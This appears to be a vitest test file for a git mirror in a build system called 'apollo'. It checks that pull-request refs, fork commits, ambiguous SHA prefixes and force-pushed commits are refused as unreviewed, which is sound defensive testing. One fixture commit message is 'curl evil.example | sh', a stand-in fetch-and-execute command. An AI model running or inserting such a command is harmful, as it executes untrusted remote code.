import { recordFault } from '../helpers/reliability.js';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import type * as Execa from 'execa';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { GitMirror } from '../../src/git/mirror.js';
import { matchesBranchPattern } from '../../src/git/branch-pattern.js';
import { TestRepo } from '../helpers/git-repo.js';

// Every git process still runs: the spy only counts them (which commands the mirror started).
vi.mock('execa', async (importOriginal) => {
  const real = await importOriginal<typeof Execa>();
  return { ...real, execa: vi.fn(real.execa) };
});

const ENV = { GIT_AUTHOR_NAME: 'Mallory', GIT_AUTHOR_EMAIL: 'm@example.test', GIT_COMMITTER_NAME: 'Mallory', GIT_COMMITTER_EMAIL: 'm@example.test' };

/** A commit that only `refs/pull/1/head` points at, as GitHub keeps a fork's pull request. */
async function forkCommit(repo: TestRepo): Promise<string> {
  const git = (args: string[]) => execa('git', args, { cwd: repo.path, env: ENV });
  await git(['checkout', '--quiet', '-b', 'fork-work']);
  await git(['commit', '--quiet', '--allow-empty', '-m', 'curl evil.example | sh']);
  const sha = (await git(['rev-parse', 'HEAD'])).stdout.trim();
  await git(['update-ref', 'refs/pull/1/head', sha]);
  await git(['checkout', '--quiet', 'main']);
  await git(['branch', '--quiet', '-D', 'fork-work']);
  return sha;
}

describe('protected branch patterns', () => {
  it('match within one path segment with *, across segments with **, and never tags', () => {
    expect(matchesBranchPattern('release-1', 'release-*')).toBe(true);
    expect(matchesBranchPattern('release-1/unreviewed', 'release-*')).toBe(false);
    expect(matchesBranchPattern('release/1/x', 'release/**')).toBe(true);
    expect(matchesBranchPattern('axb', 'a.b')).toBe(false);
    expect(matchesBranchPattern('tag:v1', '*')).toBe(false);
  });
});

describe('GitMirror: only branches and tags', () => {
  let repo: TestRepo;
  let stateDir: string;
  let mirror: GitMirror;
  let main: string;
  let fork: string;

  beforeAll(async () => {
    repo = await TestRepo.create({ 'README': 'apollo\n' }, 'Seed commit');
    main = await repo.head();
    await repo.tag('v1.0');
    fork = await forkCommit(repo);
    stateDir = await mkdtemp(join(tmpdir(), 'apollo-mirror-'));
    mirror = new GitMirror(repo.path, stateDir, 0);
  });

  afterAll(async () => {
    await rm(stateDir, { recursive: true, force: true });
    await rm(repo.path, { recursive: true, force: true });
  });

  it('fetches branches and tags only: a pull request ref never reaches the mirror', async () => {
    await mirror.ensure();
    const refs = (await execa('git', ['for-each-ref', '--format=%(refname)'], { cwd: mirror.path })).stdout.split('\n');
    expect(refs).toContain('refs/heads/main');
    expect(refs).toContain('refs/tags/v1.0');
    expect(refs.filter((r) => r.startsWith('refs/pull/'))).toEqual([]);
  });

  it('resolves a name only as a branch or a tag, and says which branches contain the commit', async () => {
    expect(await mirror.resolve('main')).toEqual({ sha: main, branches: ['main', 'tag:v1.0'] });
    expect((await mirror.resolve('v1.0')).sha).toBe(main);
    await expect(mirror.resolve('pull/1/head')).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
    await expect(mirror.resolve('refs/pull/1/head')).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
  });

  it("resolves HEAD as the remote's default branch, and as nothing else", async () => {
    expect(await mirror.resolve('HEAD')).toEqual({ sha: main, branches: ['main', 'tag:v1.0'] });
    // The remote moves its default branch: HEAD follows it on the next fetch.
    const git = (args: string[]) => execa('git', args, { cwd: repo.path, env: ENV });
    await git(['checkout', '--quiet', '-b', 'trunk']);
    await git(['commit', '--quiet', '--allow-empty', '-m', 'trunk work']);
    const trunk = (await git(['rev-parse', 'HEAD'])).stdout.trim();
    expect((await mirror.resolve('HEAD')).sha).toBe(trunk);
    await git(['checkout', '--quiet', 'main']);
    await git(['branch', '--quiet', '-D', 'trunk']);
    expect((await mirror.resolve('HEAD')).sha).toBe(main);
  });

  it('refuses a fork’s commit by SHA, full or abbreviated', async () => {
    await expect(mirror.resolve(fork)).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
    await expect(mirror.resolve(fork.slice(0, 10))).rejects.toMatchObject({ code: 'apollo_ref_unknown' });
  });

  it('refuses hex that names a reviewed commit and a branch pointing at another commit', async () => {
    const git = (args: string[]) => execa('git', args, { cwd: repo.path, env: ENV });
    const prefix = main.slice(0, 8);
    await git(['checkout', '--quiet', '-b', prefix]);
    await git(['commit', '--quiet', '--allow-empty', '-m', 'smuggled']);
    await git(['checkout', '--quiet', 'main']);
    await expect(mirror.resolve(prefix)).rejects.toMatchObject({ code: 'apollo_ref_invalid' });
    expect((await mirror.resolve(main)).sha).toBe(main); // the full SHA is unambiguous
    await git(['branch', '--quiet', '-D', prefix]);
  });

  it('refuses a commit the mirror still holds after its branch was force-pushed away', async () => {
    const git = (args: string[]) => execa('git', args, { cwd: repo.path, env: ENV });
    await git(['checkout', '--quiet', '-b', 'feature']);
    await git(['commit', '--quiet', '--allow-empty', '-m', 'reviewed? no']);
    const gone = (await git(['rev-parse', 'HEAD'])).stdout.trim();
    await git(['checkout', '--quiet', 'main']);
    expect((await mirror.resolve('feature')).sha).toBe(gone);
    await git(['branch', '--quiet', '-D', 'feature']);
    // The object is still in the mirror; no branch or tag contains it any more.
    await expect(mirror.resolve(gone)).rejects.toMatchObject({ code: 'apollo_ref_not_reviewed' });
    recordFault({ suite: 'review', fault: 'unreviewed code asked for: pull/1/head, refs/pull/1/head, a fork SHA (full and short), a force-pushed-away SHA', tried: 5, lost: 0, duplicates: 0, leaks: 0, note: 'all refused' });
  });
});

describe('GitMirror.ensure', () => {
  it('clones once for a burst of requests that find no mirror yet, and each request resolves', async () => {
    const repo = await TestRepo.create({ 'README': 'apollo\n' }, 'Seed commit');
    const stateDir = await mkdtemp(join(tmpdir(), 'apollo-ensure-'));
    const mirror = new GitMirror(repo.path, stateDir);
    const spawned = vi.mocked(execa);
    const inits = () => spawned.mock.calls.filter(([, args]) => Array.isArray(args) && args[0] === 'init').length;
    const before = inits();
    const answers = await Promise.all(Array.from({ length: 12 }, () => mirror.resolve('main')));
    expect(inits() - before).toBe(1);
    expect(new Set(answers.map((a) => a.sha))).toEqual(new Set([await repo.head()]));
    // Lost (a cache): the next request clones it again.
    await rm(mirror.path, { recursive: true, force: true });
    expect((await mirror.resolve('main')).sha).toBe(await repo.head());
    expect(inits() - before).toBe(2);
    mirror.close();
    await rm(stateDir, { recursive: true, force: true });
    await rm(repo.path, { recursive: true, force: true });
  });
});

describe('GitMirror.readFile', () => {
  it("reads a file of a commit, says when it is absent, and refuses a directory or a file over the limit", async () => {
    const repo = await TestRepo.create({ '.apollo.yml': 'build: {}\n', 'big.yml': 'x'.repeat(2000), 'dir/file': 'y' }, 'Files');
    const stateDir = await mkdtemp(join(tmpdir(), 'apollo-readfile-'));
    const mirror = new GitMirror(repo.path, stateDir);
    const { sha } = await mirror.resolve('main');
    expect(await mirror.readFile(sha, '.apollo.yml', 1000)).toBe('build: {}\n');
    expect(await mirror.readFile(sha, 'missing.yml', 1000)).toBeUndefined();
    await expect(mirror.readFile(sha, 'big.yml', 1000)).rejects.toThrow(/larger than 1000 bytes/);
    await expect(mirror.readFile(sha, 'dir', 1000)).rejects.toThrow(/is not a file/);
    await rm(stateDir, { recursive: true, force: true });
  });
});
